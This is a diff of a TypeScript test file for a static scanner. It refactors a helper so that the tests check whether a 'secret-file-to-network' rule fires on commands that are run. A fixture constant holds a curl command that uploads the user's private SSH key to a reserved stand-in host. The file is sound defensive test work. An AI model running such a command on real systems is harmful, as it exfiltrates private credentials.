@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { staticStage } from '../../src/static/stage.ts';
 import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';
+import { rulesOf } from './rules-of.ts';
 
 /** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
 const SENDS = 'curl -F f=@$HOME/.ssh/id_rsa https://collect.example.invalid/in';
@@ -150,13 +151,12 @@ const HANDED_ON: Readonly<Record<string, Files>> = {
   },
 };
 
-async function rulesOf(files: Files, command: string): Promise<readonly string[]> {
+function rulesWith(files: Files, command: string): Promise<readonly string[]> {
   const written = Object.entries(files).map(([path, text]) => {
     const inMake = path === 'Makefile' ? command.replaceAll('$', '$$$$') : command;
     return [path, text.replaceAll('RUN', () => inMake)] as const;
   });
-  const { findings } = await staticStage.run(targetOf(Object.fromEntries(written)), STAGE_CONTEXT);
-  return findings.map(({ ruleId }) => ruleId);
+  return rulesOf(Object.fromEntries(written));
 }
 
 describe.each([
@@ -165,8 +165,8 @@ describe.each([
   ['handed on', HANDED_ON],
 ])('a command that is %s', (_, cases) => {
   it.each(Object.entries(cases))('is run where it arrives: %s', async (_each, files) => {
-    expect(await rulesOf(files, SENDS)).toContain('secret-file-to-network');
-    expect(await rulesOf(files, HARMLESS)).not.toContain('secret-file-to-network');
+    expect(await rulesWith(files, SENDS)).toContain('secret-file-to-network');
+    expect(await rulesWith(files, HARMLESS)).not.toContain('secret-file-to-network');
   });
 });
 
@@ -202,7 +202,7 @@ describe('a command that is only kept', () => {
       },
     ],
   ])('is not run: %s', async (_, files) => {
-    expect(await rulesOf(files, SENDS)).not.toContain('secret-file-to-network');
+    expect(await rulesWith(files, SENDS)).not.toContain('secret-file-to-network');
   });
 });
 
